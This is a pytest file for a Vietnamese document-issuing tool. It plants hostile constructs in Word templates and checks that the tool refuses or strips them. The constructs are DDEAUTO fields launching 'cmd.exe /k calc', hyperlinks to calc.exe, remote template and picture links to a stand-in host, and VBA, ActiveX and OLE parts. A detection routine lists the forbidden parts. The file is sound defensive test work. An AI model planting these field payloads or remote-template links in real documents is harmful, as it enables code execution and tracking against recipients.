"""Hostile templates, by what they carry besides text, tables and pictures.

Each case copies the shipped templates and plants one thing in one of them by editing the zip
as a sender would: an external relationship (a linked picture, a frame, a mail-merge source, a
hyperlink to a file), a field that acts when Word opens the document (DDEAUTO split across
runs, INCLUDETEXT in a simple field, nested fields), an altChunk with its part, macros, ActiveX,
embedded OLE objects, a data binding to a custom XML part, a content type vanban does not know.

A refused template stops the run before anything is written (exit 3), the message naming the
template, the part and what it holds; ``vanban templates check`` names the same. What vanban
removes instead (an attached template, a part nothing reads) never reaches an issued document,
and the run says so. A web hyperlink and an embedded picture are ordinary content and pass.
"""

from __future__ import annotations

import re
import shutil
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pytest
from lxml import etree

from tests.conftest import EXAMPLE, EXAMPLE_ISSUED, TEMPLATES
from tests.hostile.support import cli, documents
from vanban.errors import TemplateError, VanbanError
from vanban.issuing.run import run_issue
from vanban.model import Plan
from vanban.rendering import render
from vanban.rendering.allowlist import ALLOWED_CONTENT_TYPES, PAGE_FIELDS
from vanban.rendering.compiled import CompiledTemplate
from vanban.rendering.findings import ContentRefused
from vanban.rendering.package import check_docx
from vanban.rendering.skeleton import Skeleton

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/2006/relationships/"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
A_NS = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
PIC_NS = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
W15_NS = 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
DOCUMENT = "word/document.xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS = "word/settings.xml"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
HEADER = "word/header1.xml"
HEADER_RELS = "word/_rels/header1.xml.rels"
CORE_PROPERTIES_ID = "{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"


class Parts:
    """A template's zip members by name, edited in place and written back in their order."""

    def __init__(self, path: Path) -> None:
        self.path = path
        with zipfile.ZipFile(path) as archive:
            self.items = {info.filename: archive.read(info) for info in archive.infolist()}
        self._ids = 0

    def save(self) -> None:
        with zipfile.ZipFile(self.path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.items.items():
                archive.writestr(name, data)

    def add(self, name: str, data: bytes | str) -> None:
        self.items[name] = data.encode() if isinstance(data, str) else data

    def rel(self, rels: str, kind: str, target: str, *, external: bool = False) -> str:
        """A new relationship in ``rels`` (created when missing); its Id."""
        self._ids += 1
        rel_id = f"rIdHostile{self._ids}"
        mode = ' TargetMode="External"' if external else ""
        entry = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'
        if rels not in self.items:
            self.items[rels] = f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"/>'.encode()
        xml = self.items[rels].decode()
        if xml.rstrip().endswith("/>") and "</Relationships>" not in xml:
            xml = xml.rstrip()[:-2] + ">" + "</Relationships>"
        self.items[rels] = xml.replace("</Relationships>", entry + "</Relationships>").encode()
        return rel_id

    def declare(self, part: str, content_type: str) -> None:
        entry = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
        self._types(entry)

    def default(self, extension: str, content_type: str) -> None:
        self._types(f'<Default Extension="{extension}" ContentType="{content_type}"/>')

    def _types(self, entry: str) -> None:
        xml = self.items["[Content_Types].xml"].decode()
        self.items["[Content_Types].xml"] = xml.replace("</Types>", entry + "</Types>").encode()

    def body(self, xml: str) -> None:
        """``xml`` as the body's last block, before its section properties."""
        data = self.items[DOCUMENT].decode()
        at = data.rfind("<w:sectPr")
        self.items[DOCUMENT] = (data[:at] + xml + data[at:]).encode()

    def header(self, xml: str) -> None:
        data = self.items[HEADER].decode()
        self.items[HEADER] = data.replace("</w:hdr>", xml + "</w:hdr>").encode()

    def settings(self, xml: str) -> None:
        """``xml`` as the settings' first child (where w:attachedTemplate and the like go)."""
        data = self.items[SETTINGS].decode()
        at = data.index(">", data.index("<w:settings")) + 1
        self.items[SETTINGS] = (data[:at] + xml + data[at:]).encode()


def instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str, result: str = "kết quả") -> str:
    """A complex field whose code is ``pieces``, one w:instrText run each."""
    return (
        mark("begin")
        + "".join(instr(p) for p in pieces)
        + mark("separate")
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + mark("end")
    )


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def picture(attribute: str) -> str:
    """An inline picture whose blip carries ``attribute`` (r:embed or r:link)."""
    return paragraph(
        '<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
        '<wp:extent cx="360000" cy="360000"/><wp:docPr id="901" name="Hinh"/>'
        f'<a:graphic {A_NS}><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<pic:pic {PIC_NS}><pic:nvPicPr><pic:cNvPr id="0" name="x.png"/><pic:cNvPicPr/>'
        f"</pic:nvPicPr><pic:blipFill><a:blip {attribute}/><a:stretch><a:fillRect/></a:stretch>"
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def png() -> bytes:
    """A 1×1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


# --- the planted things, one function per case ------------------------------------------------


def linked_picture_on_a_share(p: Parts) -> None:
    rid = p.rel(DOCUMENT_RELS, OFFICE + "image", "file:////server/share/x.png", external=True)
    p.body(picture(f'r:link="{rid}"'))


def linked_picture_on_the_web_in_a_header(p: Parts) -> None:
    rid = p.rel(HEADER_RELS, OFFICE + "image", "http://203.0.113.9/logo.png", external=True)
    p.header(picture(f'r:link="{rid}"'))


def external_frame(p: Parts) -> None:
    p.rel("word/_rels/webSettings.xml.rels", OFFICE + "frame", "http://203.0.113.9/f.htm",
          external=True)  # fmt: skip


def external_subdocument(p: Parts) -> None:
    rid = p.rel(DOCUMENT_RELS, OFFICE + "subDocument", "\\\\server\\share\\phan2.docx",
                external=True)  # fmt: skip
    p.body(paragraph(f'<w:subDoc r:id="{rid}"/>'))


def mail_merge_source(p: Parts) -> None:
    rid = p.rel(SETTINGS_RELS, OFFICE + "mailMergeSource", "file:///C:/data/ho-ngheo.xlsx",
                external=True)  # fmt: skip
    p.settings(
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/>'
        f'<w:dataSource r:id="{rid}"/></w:mailMerge>'
    )


def hyperlink_to_a_file(p: Parts) -> None:
    rid = p.rel(DOCUMENT_RELS, OFFICE + "hyperlink", "file:///C:/Windows/System32/calc.exe",
                external=True)  # fmt: skip
    p.body(paragraph(f'<w:hyperlink r:id="{rid}"><w:r><w:t>Bấm vào đây</w:t></w:r></w:hyperlink>'))


def hyperlink_to_a_share(p: Parts) -> None:
    rid = p.rel(HEADER_RELS, OFFICE + "hyperlink", "\\\\server\\share\\bao-cao.docx",
                external=True)  # fmt: skip
    p.header(paragraph(f'<w:hyperlink r:id="{rid}"><w:r><w:t>Xem</w:t></w:r></w:hyperlink>'))


def ddeauto_split_across_runs(p: Parts) -> None:
    p.body(paragraph(field(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc" ')))


def ddeauto_in_lower_case(p: Parts) -> None:
    p.body(paragraph(field(' ddeauto "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" ')))


def includetext_in_a_simple_field(p: Parts) -> None:
    p.header(
        paragraph(
            '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\server\\\\share\\\\x.docx&quot; ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
        )
    )


def includepicture_from_the_web(p: Parts) -> None:
    p.body(paragraph(field(' INCLUDEPICTURE "http://203.0.113.9/track.png" \\d ')))


def dde_nested_in_an_if(p: Parts) -> None:
    p.body(
        paragraph(
            mark("begin")
            + instr(" IF 1 = 1 ")
            + field(" DDE cmd.exe ", '"/c calc"')
            + instr(' "có" "không" ')
            + mark("separate")
            + "<w:r><w:t>có</w:t></w:r>"
            + mark("end")
        )
    )


def link_field_in_a_header(p: Parts) -> None:
    p.header(paragraph(field(' LINK Excel.Sheet.12 "C:\\\\du-lieu.xlsx" "Sheet1!R1C1" \\a ')))


def import_field_in_a_simple_field_of_the_body(p: Parts) -> None:
    p.body(
        paragraph(
            '<w:fldSimple w:instr=" IMPORT \\\\server\\share\\logo.wmf ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
        )
    )


def date_field_that_changes_the_text(p: Parts) -> None:
    p.body(paragraph(field(' DATE \\@ "dd/MM/yyyy" ')))


def alt_chunk_of_html(p: Parts) -> None:
    p.add("word/afchunk.htm", "<html><body><p>999.999.999đ</p></body></html>")
    p.declare("word/afchunk.htm", "text/html")
    rid = p.rel(DOCUMENT_RELS, OFFICE + "aFChunk", "afchunk.htm")
    p.body(f'<w:altChunk r:id="{rid}"/>')


def alt_chunk_of_a_docx_part(p: Parts) -> None:
    # The chunk's own content type is on the list: the relationship and the element are not.
    p.add("word/chunk.xml", p.items[DOCUMENT])
    p.declare("word/chunk.xml", "application/vnd.openxmlformats-officedocument."
              "wordprocessingml.document.main+xml")  # fmt: skip
    rid = p.rel(DOCUMENT_RELS, OFFICE + "aFChunk", "chunk.xml")
    p.body(f'<w:altChunk r:id="{rid}"/>')


def macros_with_their_relationship(p: Parts) -> None:
    p.add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    p.default("bin", "application/vnd.ms-office.vbaProject")
    p.rel(DOCUMENT_RELS, MS + "vbaProject", "vbaProject.bin")
    macro_enabled_main_part(p)


def macros_without_a_relationship(p: Parts) -> None:
    p.add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)
    p.declare("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def macro_enabled_main_part(p: Parts) -> None:
    types = p.items["[Content_Types].xml"].decode()
    p.items["[Content_Types].xml"] = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).encode()


def template_main_part(p: Parts) -> None:
    # A Word template (.dotx) renamed: its main part is no document's.
    types = p.items["[Content_Types].xml"].decode()
    p.items["[Content_Types].xml"] = types.replace(
        "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"
    ).encode()


def activex_control(p: Parts) -> None:
    p.add("word/activeX/activeX1.xml",
          '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
          'ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStreamInit" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
          'r:id="rId1"/>')  # fmt: skip
    p.add("word/activeX/activeX1.bin", b"\x00" * 64)
    p.declare("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    p.declare("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    p.rel("word/activeX/_rels/activeX1.xml.rels", MS + "activeXControlBinary", "activeX1.bin")
    rid = p.rel(DOCUMENT_RELS, OFFICE + "control", "activeX/activeX1.xml")
    p.body(
        paragraph(
            '<w:r><w:object><v:shape id="_x0000_i1025" style="width:90pt;height:18pt"/>'
            f'<w:control r:id="{rid}" w:name="TextBox1" w:shapeid="_x0000_i1025"/></w:object></w:r>'
        )
    )


def activex_control_in_a_header(p: Parts) -> None:
    p.add(
        "word/activeX/activeX2.xml",
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    )
    p.declare("word/activeX/activeX2.xml", "application/vnd.ms-office.activeX+xml")
    rid = p.rel(HEADER_RELS, OFFICE + "control", "activeX/activeX2.xml")
    p.header(paragraph(f'<w:r><w:control r:id="{rid}" w:name="CheckBox1"/></w:r>'))


def embedded_ole_package(p: Parts) -> None:
    p.add("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 120)
    p.default("bin", "application/vnd.openxmlformats-officedocument.oleObject")
    rid = p.rel(DOCUMENT_RELS, OFFICE + "oleObject", "embeddings/oleObject1.bin")
    p.body(
        paragraph(
            '<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1026" '
            'style="width:72pt;height:72pt"/><o:OLEObject Type="Embed" ProgID="Package" '
            f'ShapeID="_x0000_i1026" DrawAspect="Icon" ObjectID="_1" r:id="{rid}"/></w:object></w:r>'
        )
    )


def embedded_workbook(p: Parts) -> None:
    p.add("word/embeddings/Bang_tinh.xlsx", b"PK\x05\x06" + b"\x00" * 18)
    p.default("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    rid = p.rel(DOCUMENT_RELS, OFFICE + "package", "embeddings/Bang_tinh.xlsx")
    p.body(
        paragraph(
            '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" '
            f'ShapeID="_x0000_i1027" ObjectID="_2" r:id="{rid}"/></w:object></w:r>'
        )
    )


def linked_ole_object(p: Parts) -> None:
    rid = p.rel(DOCUMENT_RELS, OFFICE + "oleObject", "file:////server/share/so-lieu.xlsx",
                external=True)  # fmt: skip
    p.body(
        paragraph(
            '<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
            f'ShapeID="_x0000_i1028" ObjectID="_3" r:id="{rid}" UpdateMode="Always"/>'
            "</w:object></w:r>"
        )
    )


ITEM_ID = "{5A0E2B51-7A40-4B5C-9C59-1D1F7E2C3A99}"


def data_binding_to_a_custom_part(p: Parts) -> None:
    p.add("customXml/item2.xml", '<tien xmlns="urn:x-tien"><so>999.999.999đ</so></tien>')
    p.add("customXml/itemProps2.xml",
          '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" '
          f'ds:itemID="{ITEM_ID}"><ds:schemaRefs/></ds:datastoreItem>')  # fmt: skip
    p.declare("customXml/itemProps2.xml",
              "application/vnd.openxmlformats-officedocument.customXmlProperties+xml")  # fmt: skip
    p.rel("customXml/_rels/item2.xml.rels", OFFICE + "customXmlProps", "itemProps2.xml")
    p.rel(DOCUMENT_RELS, OFFICE + "customXml", "../customXml/item2.xml")
    p.body(
        paragraph(
            "<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings=\"xmlns:t='urn:x-tien'\" "
            f'w:xpath="/t:tien[1]/t:so[1]" w:storeItemID="{ITEM_ID}"/><w:text/></w:sdtPr>'
            "<w:sdtContent><w:r><w:t>{{ plan.budget | vnd }}</w:t></w:r></w:sdtContent></w:sdt>"
        )
    )


def data_binding_to_the_core_properties_in_a_header(p: Parts) -> None:
    p.header(
        paragraph(
            "<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings=\"xmlns:dc='http://purl.org/dc/elements/1.1/'\" "
            f'w:xpath="/ns1:coreProperties[1]/dc:title[1]" w:storeItemID="{CORE_PROPERTIES_ID}"/>'
            "<w:text/></w:sdtPr><w:sdtContent><w:r><w:t>Tiêu đề</w:t></w:r></w:sdtContent></w:sdt>"
        )
    )


def data_binding_of_word_2013(p: Parts) -> None:
    # The citation sources item every Word file carries (the shipped templates no longer do):
    # Word 2013's repeating section binds to it by its id.
    p.add("customXml/item1.xml",
          '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" '
          'SelectedStyle="/APA.XSL" StyleName="APA"/>')  # fmt: skip
    p.add("customXml/itemProps1.xml",
          '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" '
          'ds:itemID="{EF278816-EC6F-A645-907D-7F25AECB1D4A}"><ds:schemaRefs/></ds:datastoreItem>')  # fmt: skip
    p.declare("customXml/itemProps1.xml",
              "application/vnd.openxmlformats-officedocument.customXmlProperties+xml")  # fmt: skip
    p.rel("customXml/_rels/item1.xml.rels", OFFICE + "customXmlProps", "itemProps1.xml")
    p.rel(DOCUMENT_RELS, OFFICE + "customXml", "../customXml/item1.xml")
    p.body(
        paragraph(
            f'<w:sdt {W15_NS}><w:sdtPr><w15:dataBinding w15:xpath="/b:Sources[1]" '
            'w15:storeItemID="{EF278816-EC6F-A645-907D-7F25AECB1D4A}"/><w15:repeatingSection/>'
            "</w:sdtPr><w:sdtContent><w:r><w:t>x</w:t></w:r></w:sdtContent></w:sdt>"
        )
    )


def unknown_default_content_type(p: Parts) -> None:
    p.add("word/tool.exe", b"MZ" + b"\x00" * 62)
    p.default("exe", "application/x-msdownload")


def unknown_override_of_a_used_part(p: Parts) -> None:
    types = p.items["[Content_Types].xml"].decode()
    p.items["[Content_Types].xml"] = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml",
        "application/x-vanban-unknown+xml",
    ).encode()


def chart_part(p: Parts) -> None:
    p.add("word/charts/chart1.xml",
          '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>')  # fmt: skip
    p.declare("word/charts/chart1.xml",
              "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")  # fmt: skip
    p.rel(DOCUMENT_RELS, OFFICE + "chart", "charts/chart1.xml")


def web_add_in_at_the_package(p: Parts) -> None:
    p.add("word/webextensions/taskpanes.xml", '<wetp:taskpanes xmlns:wetp="urn:x"/>')
    p.rel("_rels/.rels", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
          "word/webextensions/taskpanes.xml")  # fmt: skip


def two_parts_of_one_name(p: Parts) -> None:
    p.add("Word/Document.xml", p.items[DOCUMENT].replace(b"<w:body>", b"<w:body><w:p/>", 1))


@dataclass(frozen=True)
class Case:
    id: str
    template: str
    plant: Callable[[Parts], None]
    part: str  # the part the message names
    says: str  # what it says the part holds


CASES = [
    # External relationships
    Case("picture-linked-to-a-share", "ke-hoach.docx", linked_picture_on_a_share,
         DOCUMENT_RELS, "file:////server/share/x.png"),
    Case("picture-linked-to-the-web-in-a-header", "giay-moi.docx",
         linked_picture_on_the_web_in_a_header, HEADER_RELS, "http://203.0.113.9/logo.png"),
    Case("external-frame", "quyet-dinh-to-cong-tac.docx", external_frame,
         "word/_rels/webSettings.xml.rels", "liên kết ra ngoài tệp"),
    Case("external-subdocument", "ke-hoach.docx", external_subdocument, DOCUMENT, "văn bản con"),
    Case("mail-merge-source", "giay-moi.docx", mail_merge_source, SETTINGS, "trộn thư"),
    Case("hyperlink-to-a-file", "ke-hoach.docx", hyperlink_to_a_file, DOCUMENT_RELS,
         "file:///C:/Windows/System32/calc.exe"),
    Case("hyperlink-to-a-share", "giay-moi.docx", hyperlink_to_a_share, HEADER_RELS,
         "không tới tệp trên máy hay trên mạng nội bộ"),
    # Fields that act on open or update
    Case("ddeauto-split-across-runs", "ke-hoach.docx", ddeauto_split_across_runs, DOCUMENT,
         "trường DDEAUTO"),
    Case("ddeauto-in-lower-case", "giay-moi.docx", ddeauto_in_lower_case, DOCUMENT,
         "trường DDEAUTO"),
    Case("includetext-in-fldsimple", "ke-hoach.docx", includetext_in_a_simple_field, HEADER,
         "trường INCLUDETEXT"),
    Case("includepicture", "bao-cao-tong-hop.docx", includepicture_from_the_web, DOCUMENT,
         "trường INCLUDEPICTURE"),
    Case("dde-nested-in-if", "giay-moi.docx", dde_nested_in_an_if, DOCUMENT, "trường DDE "),
    Case("link-field-in-a-header", "phu-luc-phan-bo-kinh-phi.docx", link_field_in_a_header,
         HEADER, "trường LINK"),
    Case("import-field", "giay-moi.docx", import_field_in_a_simple_field_of_the_body, DOCUMENT,
         "trường IMPORT"),
    Case("date-field", "ke-hoach.docx", date_field_that_changes_the_text, DOCUMENT,
         "trường DATE"),
    # altChunk
    Case("altchunk-of-html", "ke-hoach.docx", alt_chunk_of_html, DOCUMENT, "altChunk"),
    Case("altchunk-of-a-docx-part", "giay-moi.docx", alt_chunk_of_a_docx_part, DOCUMENT_RELS,
         "altChunk"),
    # Macros
    Case("vba-project-with-relationship", "ke-hoach.docx", macros_with_their_relationship,
         DOCUMENT_RELS, "macro (VBA)"),
    Case("vba-project-alone", "giay-moi.docx", macros_without_a_relationship,
         "word/vbaProject.bin", "macro (VBA)"),
    Case("macro-enabled-main-part", "bao-cao-ket-qua.docx", macro_enabled_main_part,
         DOCUMENT, "macro (VBA)"),
    Case("template-main-part", "ke-hoach.docx", template_main_part, DOCUMENT,
         "wordprocessingml.template.main+xml"),
    # ActiveX and OLE
    Case("activex-control", "ke-hoach.docx", activex_control, DOCUMENT, "ActiveX"),
    Case("activex-control-in-a-header", "giay-moi.docx", activex_control_in_a_header, HEADER,
         "điều khiển ActiveX (w:control)"),
    Case("embedded-ole-package", "ke-hoach.docx", embedded_ole_package, DOCUMENT,
         "đối tượng nhúng OLE"),
    Case("embedded-workbook", "danh-sach-tham-du.docx", embedded_workbook, DOCUMENT_RELS,
         "đối tượng nhúng OLE"),
    Case("linked-ole-object", "ke-hoach.docx", linked_ole_object, DOCUMENT_RELS,
         "file:////server/share/so-lieu.xlsx"),
    # Data bindings
    Case("data-binding-to-a-custom-part", "ke-hoach.docx", data_binding_to_a_custom_part,
         "customXml/item2.xml", "data binding"),
    Case("data-binding-to-core-properties", "giay-moi.docx",
         data_binding_to_the_core_properties_in_a_header, HEADER, "ràng buộc dữ liệu"),
    Case("data-binding-of-word-2013", "ke-hoach.docx", data_binding_of_word_2013,
         "customXml/item1.xml", "data binding"),
    # What vanban does not know
    Case("unknown-default-content-type", "ke-hoach.docx", unknown_default_content_type,
         "[Content_Types].xml", '"application/x-msdownload" mà vanban không biết'),
    Case("unknown-override-of-a-used-part", "giay-moi.docx", unknown_override_of_a_used_part,
         "word/webSettings.xml", "application/x-vanban-unknown+xml"),
    Case("chart", "bao-cao-tong-hop.docx", chart_part, DOCUMENT_RELS, 'quan hệ kiểu'),
    Case("web-add-in", "ke-hoach.docx", web_add_in_at_the_package, "_rels/.rels",
         "webextensiontaskpanes"),
    Case("two-parts-of-one-name", "ke-hoach.docx", two_parts_of_one_name, "Word/Document.xml",
         "trùng tên"),
]  # fmt: skip


def _templates(tmp_path: Path, template: str, plant: Callable[[Parts], None]) -> Path:
    folder = tmp_path / "templates"
    shutil.copytree(TEMPLATES, folder)
    parts = Parts(folder / template)
    plant(parts)
    parts.save()
    return folder


# --- what an issued document may hold, walked part by part --------------------------------------


def forbidden_in(data: bytes) -> list[str]:
    """Everything in a .docx that no issued document may hold, found without vanban's code."""
    found: list[str] = []
    with zipfile.ZipFile(BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    types = etree.fromstring(parts["[Content_Types].xml"])
    declared = {el.get("ContentType") for el in types}
    found += [f"content type {t}" for t in sorted(declared - ALLOWED_CONTENT_TYPES)]
    overrides = {el.get("PartName", "").lstrip("/") for el in types.iter(f"{{{CT_NS}}}Override")}
    defaults = {el.get("Extension", "").lower() for el in types.iter(f"{{{CT_NS}}}Default")}
    for name, blob in parts.items():
        if name == "[Content_Types].xml":
            continue
        if name not in overrides and name.rsplit(".", 1)[-1].lower() not in defaults:
            found.append(f"{name}: no content type")
        if re.search(r"vba|activex|embeddings/|afchunk|oleobject", name, re.IGNORECASE):
            found.append(f"{name}: forbidden part")
        if name.endswith(".rels"):
            for rel in etree.fromstring(blob):
                if rel.get("TargetMode") == "External" and not rel.get("Target", "").startswith(
                    ("http://", "https://", "mailto:")
                ):
                    found.append(f"{name}: external {rel.get('Target')}")
                if rel.get("TargetMode") == "External" and not rel.get("Type", "").endswith(
                    "/hyperlink"
                ):
                    found.append(f"{name}: external {rel.get('Type')}")
                if re.search(r"vba|control|oleObject|package$|aFChunk|attachedTemplate",
                             rel.get("Type", "")):  # fmt: skip
                    found.append(f"{name}: relationship {rel.get('Type')}")
            continue
        if not name.endswith(".xml"):
            continue
        root = etree.fromstring(blob)
        code = ""
        for el in root.iter():
            if not isinstance(el.tag, str):
                continue
            local = el.tag.rsplit("}", 1)[-1]
            if local in ("altChunk", "object", "OLEObject", "control", "subDoc", "mailMerge",
                         "dataBinding", "attachedTemplate"):  # fmt: skip
                found.append(f"{name}: {local}")
            if el.tag == W + "fldSimple":
                code += " " + (el.get(W + "instr") or "") + " \x00"
            if el.tag in (W + "instrText", W + "delInstrText"):
                code += el.text or ""
            if el.tag == W + "fldChar":
                code += " \x00"
        for piece in code.split("\x00"):
            words = piece.split()
            if words and words[0].upper() not in PAGE_FIELDS:
                found.append(f"{name}: field {piece.strip()}")
    return found


def _assert_clean(out: Path) -> None:
    issued = documents(out)
    assert issued
    for path in issued:
        data = path.read_bytes()
        assert forbidden_in(data) == [], path
        check_docx(data)


# --- refusals ------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_a_template_holding_it_is_refused_before_anything_is_written(
    case: Case, tmp_path: Path, example_plan: Plan
) -> None:
    folder = _templates(tmp_path, case.template, case.plant)
    out = tmp_path / "out"
    with pytest.raises(VanbanError) as raised:
        run_issue(example_plan, out_dir=out, templates_dir=folder)
    assert raised.value.exit_code == 3
    message = str(raised.value)
    assert f"Mẫu {case.template}: có nội dung không được phép" in message, message
    assert f"phần {case.part}: " in message, message
    assert case.says in message, message
    assert "Traceback" not in message and "lxml" not in message
    assert documents(out) == []


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_templates_check_names_the_template_the_part_and_what_it_holds(
    case: Case, tmp_path: Path
) -> None:
    folder = _templates(tmp_path, case.template, case.plant)
    result = cli("templates", "check", folder)
    assert result.code == 1
    result.assert_clean()
    assert f"{case.template}: " in result.text, result.text
    assert f'"{case.part}"' in result.text and case.says in result.text, result.text


def test_render_refuses_the_template_with_every_finding_at_once(tmp_path: Path) -> None:
    def several(p: Parts) -> None:
        ddeauto_split_across_runs(p)
        linked_picture_on_a_share(p)
        macros_without_a_relationship(p)

    folder = _templates(tmp_path, "ke-hoach.docx", several)
    with pytest.raises(TemplateError) as raised:
        render.compiled_template(folder / "ke-hoach.docx")
    message = str(raised.value)
    for says in ("trường DDEAUTO", "file:////server/share/x.png", "macro (VBA)"):
        assert says in message, message
    # The refusal is kept: asked again, the same template fails the same way.
    with pytest.raises(TemplateError):
        render.render_docx(folder / "ke-hoach.docx", {})


def test_vanban_run_refuses_the_template_and_exits_3(prefect_harness: None, tmp_path: Path) -> None:
    folder = _templates(tmp_path, "ke-hoach.docx", ddeauto_split_across_runs)
    out = tmp_path / "out"
    from tests.conftest import EXAMPLE

    result = cli("run", EXAMPLE, "--out", out, "--templates", folder)
    assert result.code == 3, result.text
    result.assert_clean()
    assert "Mẫu ke-hoach.docx: có nội dung không được phép" in result.text, result.text
    assert "phần word/document.xml: trường (field)" in result.text
    assert documents(out) == []


# --- removals ------------------------------------------------------------------------------------


def attached_template_on_the_web(p: Parts) -> None:
    rid = p.rel(SETTINGS_RELS, OFFICE + "attachedTemplate", "http://203.0.113.9/mau.dotm",
                external=True)  # fmt: skip
    p.settings(f'<w:attachedTemplate r:id="{rid}"/>')


def attached_template_on_a_share(p: Parts) -> None:
    rid = p.rel(SETTINGS_RELS, OFFICE + "attachedTemplate",
                "file:///\\\\server\\templates\\Cong-van.dotx", external=True)  # fmt: skip
    p.settings(f'<w:attachedTemplate r:id="{rid}"/>')


def a_part_nothing_reads(p: Parts) -> None:
    p.add("word/leftover.xml", "<x>999.999.999đ</x>")


REMOVALS = [
    ("attached-template-on-the-web", "ke-hoach.docx", attached_template_on_the_web,
     SETTINGS_RELS, "http://203.0.113.9/mau.dotm"),
    ("attached-template-on-a-share", "giay-moi.docx", attached_template_on_a_share,
     SETTINGS_RELS, "Cong-van.dotx"),
    ("a-part-nothing-reads", "bao-cao-tong-hop.docx", a_part_nothing_reads,
     "word/leftover.xml", "phần thừa"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("template", "plant", "part", "says"), [r[1:] for r in REMOVALS], ids=[r[0] for r in REMOVALS]
)
def test_what_is_removed_reaches_no_document_and_is_said(
    template: str,
    plant: Callable[[Parts], None],
    part: str,
    says: str,
    tmp_path: Path,
    example_plan: Plan,
) -> None:
    folder = _templates(tmp_path, template, plant)
    warnings = render.template_warnings(folder / template)
    assert len(warnings) == 1 and warnings[0].startswith(f"Mẫu {template}: phần {part}: ")
    assert says in warnings[0] and "đã gỡ" in warnings[0], warnings

    out = tmp_path / "out"
    report = run_issue(example_plan, out_dir=out, templates_dir=folder)
    assert report.exit_code == 0, [(s.job.relpath, s.reason) for s in report.statuses]
    assert len([s for s in report.statuses if s.status == "issued"]) == EXAMPLE_ISSUED
    _assert_clean(out)
    for path in documents(out):
        with zipfile.ZipFile(path) as archive:
            assert "word/leftover.xml" not in archive.namelist()
